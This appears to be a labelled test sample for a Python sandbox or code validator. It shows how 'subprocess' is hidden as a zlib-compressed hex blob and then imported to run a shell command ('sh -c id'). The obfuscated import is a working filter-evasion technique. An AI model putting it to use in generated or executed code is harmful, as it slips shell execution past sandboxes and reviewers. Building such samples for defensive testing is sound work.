# attack-class: 2
# title: __import__ of a zlib-compressed name
# why: zlib and bytes.fromhex are allowed; the decompressed bytes are "subprocess"

import zlib

blob = bytes.fromhex("789c2b2e4d2a28ca4f4e2d2e060017b0044a")
sp = __import__(zlib.decompress(blob).decode())
sp.run(["sh", "-c", "id"])
